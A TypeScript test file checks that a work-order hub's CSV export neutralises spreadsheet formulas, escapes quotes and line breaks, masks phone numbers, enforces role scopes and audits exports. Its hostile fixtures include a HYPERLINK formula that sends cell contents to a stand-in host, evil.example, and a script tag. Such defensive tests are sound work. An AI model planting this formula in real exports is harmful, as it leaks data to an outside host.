import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { csvCell } from '../../../hub/orders/export.js';
import { startTestHub, type TestHub } from '../../support/hub.js';

/**
 * Issue 19, bad input: script or a formula in any text field stays text in the CSV export too. A
 * spreadsheet reads a cell starting with = + - @ as a formula (CSV injection): such cells get an
 * apostrophe; quotes, commas and line breaks are quoted (RFC 4180); phones masked; center and admin
 * only, their own estates only; audited.
 */
describe('work orders as CSV', () => {
  let t: TestHub;
  let center = '';
  let volunteer = '';
  const hostile = {
    description: '=HYPERLINK("http://evil.example/?leak="&A1,"点我")',
    title: '<script>alert(1)</script>',
    building: '3栋, "东"',
    unit: '+1-2\n501',
  };

  beforeAll(async () => {
    t = await startTestHub();
    await t.hub.registry.addStreet('s1');
    await t.hub.registry.addEstate('e1', { street: 's1', name: '幸福里' });
    await t.hub.registry.addEstate('e2', { name: '别处' });
    center = (await t.addUser({ name: 'center', role: 'center', scopes: ['street:s1'] })).token;
    volunteer = (await t.addUser({ name: 'vol', role: 'volunteer', scopes: ['estate:e1'] })).token;
    const a = await t.api('POST', '/api/v1/work-orders', { token: center, body: { estate: 'e1', source: 'phone', category: 'repair', phone: '13812345678', ...hostile } });
    expect(a.status, JSON.stringify(a.json)).toBe(201);
    const imported = await t.api('POST', '/api/v1/work-orders/import', { body: [{ externalNo: 'X-9', estate: 'e2', category: 'noise', description: '@SUM(1+1)' }] });
    expect(imported.status).toBe(200);
  });
  afterAll(async () => {
    await t?.stop();
  });

  const get = (token: string, query = '') => fetch(`${t.httpUrl}/api/v1/work-orders/export.csv${query}`, { headers: { authorization: `Bearer ${token}` } });

  it('every text is a cell\'s text: formulas neutralised, quotes and line breaks kept, phone masked', async () => {
    const res = await get(center);
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toMatch(/^text\/csv; charset=utf-8/);
    const bytes = Buffer.from(await res.arrayBuffer());
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]); // the byte-order mark spreadsheets look for
    const text = bytes.subarray(3).toString('utf8');
    const rows = parse(text, { relax_column_count: false }) as string[][];
    expect(rows[0]).toEqual(['工单号', '小区', '来源', '类别', '层级', '状态', '标题', '描述', '楼栋', '单元', '电话', '12345编号', '登记时间', '期限', '办结时间', '评价']);
    // The center's street only: e2 (no street) is not in its scope.
    expect(rows).toHaveLength(2);
    const r = Object.fromEntries(rows[0]!.map((h, i) => [h, rows[1]![i]!]));
    expect(r).toMatchObject({ 小区: '幸福里', 来源: '来电登记', 类别: '报修', 层级: '网格', 状态: '新建' });
    expect(r['描述']).toBe(`'${hostile.description}`);
    expect(r['标题']).toBe(hostile.title);
    expect(r['楼栋']).toBe(hostile.building);
    expect(r['单元']).toBe(`'${hostile.unit}`);
    expect(r['电话']).toBe('138****5678');
    expect(text).not.toContain('13812345678');
  });

  it('the API token (all estates) gets both; a cell starting with @ is neutralised', async () => {
    const rows = parse(Buffer.from(await (await get(t.apiToken!)).arrayBuffer()).subarray(3).toString('utf8')) as string[][];
    expect(rows).toHaveLength(3);
    expect(rows.map((r) => r[7])).toContain("'@SUM(1+1)");
  });

  it('volunteers get 403; an estate out of scope 403; the export is audited', async () => {
    expect((await get(volunteer)).status).toBe(403);
    expect((await get(center, '?estate=e2')).status).toBe(403);
    const audit = await t.api('GET', '/api/v1/audit?action=order.export&limit=10');
    expect((audit.json.items as unknown[]).length).toBeGreaterThanOrEqual(2);
  });

  it('csvCell: plain text as is; quotes doubled; formula starts prefixed', () => {
    expect(csvCell('楼道灯不亮')).toBe('楼道灯不亮');
    expect(csvCell('a "b", c')).toBe('"a ""b"", c"');
    for (const start of ['=', '+', '-', '@', '\t', '\r']) expect(csvCell(`${start}x`).startsWith("'") || csvCell(`${start}x`).startsWith(`"'`)).toBe(true);
    expect(csvCell(null)).toBe('');
  });
});
